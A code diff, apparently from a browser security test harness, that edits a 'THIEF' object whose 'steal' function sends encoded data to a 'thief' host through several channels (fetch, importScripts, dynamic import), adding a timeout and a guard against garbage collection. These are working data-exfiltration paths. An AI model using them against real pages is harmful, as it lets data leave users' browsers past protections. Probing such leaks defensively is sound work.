@@ -73,8 +73,10 @@ const THIEF: Planted = {
     steal: async (thief: string): Promise<(readonly [way: string, end: string])[]> => {
       const loot = encodeURIComponent(JSON.stringify({ itemId: '85123A', dwellMs: 4_000 }));
       const { kept, importScripts } = self as unknown as { kept: typeof fetch; importScripts(url: string): void };
+      const held: EventTarget[] = [];
       const opened = (target: EventTarget, sign: string) =>
         new Promise((resolve, reject) => {
+          held.push(target); // no collector takes it before it has answered
           target.addEventListener(sign, resolve);
           target.addEventListener('error', reject);
         });
@@ -99,9 +101,10 @@ const THIEF: Planted = {
         ['import', (url) => import(url)],
       ];
       const endOf = async ([name, way]: (typeof ways)[number]) => {
+        const late = new Promise((resolve) => setTimeout(resolve, 8_000, 'unanswered'));
         try {
-          await way(`${thief}/${name}?${loot}`);
-          return [name, 'out'] as const;
+          const end = await Promise.race([Promise.resolve(way(`${thief}/${name}?${loot}`)).then(() => 'out'), late]);
+          return [name, String(end)] as const;
         } catch (error) {
           return [name, String(error)] as const;
         }
